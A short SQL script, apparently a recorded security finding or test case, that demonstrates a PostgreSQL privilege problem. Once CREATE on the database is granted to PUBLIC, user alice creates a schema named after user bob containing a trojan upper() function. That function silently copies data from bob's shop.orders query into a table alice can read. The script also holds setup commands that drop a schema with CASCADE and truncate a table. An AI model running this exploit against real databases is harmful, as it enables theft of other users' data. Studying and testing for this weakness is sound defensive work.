-- finding: database-create database postgres
GRANT CREATE ON DATABASE postgres TO PUBLIC;
CREATE SCHEMA bag; GRANT USAGE ON SCHEMA bag TO PUBLIC;
CREATE TABLE bag.taken (item text); GRANT ALL ON bag.taken TO PUBLIC;
-- first as postgres
DROP SCHEMA IF EXISTS "bob@example.com" CASCADE;
TRUNCATE bag.taken;
-- first as alice@example.com
CREATE SCHEMA "bob@example.com"; GRANT USAGE ON SCHEMA "bob@example.com" TO PUBLIC;
CREATE FUNCTION "bob@example.com".upper(item character varying) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO bag.taken VALUES (item); RETURN item; END $$;
-- first as bob@example.com
SELECT upper(item::varchar) FROM shop.orders;
-- leak as alice@example.com
SELECT item FROM bag.taken WHERE item = 'secret';
